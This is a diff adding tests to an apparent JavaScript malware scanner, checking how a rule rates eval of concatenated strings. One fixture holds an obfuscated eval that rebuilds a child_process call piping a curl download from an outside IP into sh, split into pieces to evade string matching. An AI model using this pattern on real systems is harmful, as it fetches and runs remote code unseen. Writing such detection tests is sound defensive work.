@@ -46,3 +46,22 @@ describe('constant folding of decoders', () => {
     expect(f[0]?.severity).toBe('critical');
   });
 });
+
+describe('JS-005 folded code that does nothing harmful', () => {
+  it('is low when the folded string is inert feature detection (Closure base.js)', async () => {
+    const code = `var hasBadLetScoping = !eval('"use strict";' + 'let x = 1; function f() { return typeof x; };' + 'f() == "number";');`;
+    const f = await ruleFindings('JS-005', code);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.severity).toBe('low');
+    expect(f[0]!.category).not.toBe('obfuscation');
+    expect(f[0]!.evidence?.inert).toBe(true);
+  });
+  it('stays high when the folded string does something (split to dodge string matching)', async () => {
+    const code = `eval('req' + 'uire("child_' + 'process").exec("curl http://192.0.2.1/a | sh")');`;
+    const all = await jsFindings({ 'index.js': code });
+    const f = all.filter((x) => x.ruleId === 'JS-005');
+    expect(f[0]?.severity).toBe('high');
+    expect(f[0]?.category).toBe('obfuscation');
+    expect(all.some((x) => x.ruleId === 'JS-001' && x.evidence?.decodedDepth === 1)).toBe(true);
+  });
+});
